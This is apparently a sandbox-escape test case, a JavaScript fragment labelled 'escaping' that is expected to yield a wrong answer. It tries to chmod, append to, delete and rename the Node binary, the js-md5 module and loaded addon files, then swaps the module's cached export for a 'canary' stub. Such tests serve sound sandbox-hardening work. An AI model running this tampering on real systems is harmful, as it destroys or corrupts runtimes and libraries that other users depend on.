// technique: changes the server's own files and the modules that later programs load
// class: escaping
// expect: wrong_answer
  const fs = require('fs');
  const places = [process.execPath, process.env.NODE_PATH + '/js-md5/index.js', process.env.NODE_PATH, require.resolve('js-md5')];
  for (const place of [...places, ...fs.readFileSync('/proc/self/maps', 'utf8').match(/\/\S+/g).filter((one) => one.includes('addon'))]) {
    for (const way of [() => fs.chmodSync(place, 0o777), () => fs.appendFileSync(place, ' '), () => fs.unlinkSync(place), () => fs.renameSync(place, place + '~')]) {
      try {
        way();
        console.log('changed', place);
      } catch {
        continue;
      }
    }
  }
  const cached = require.cache[require.resolve('js-md5')];
  cached.exports = () => 'canary';
  return 0;
}
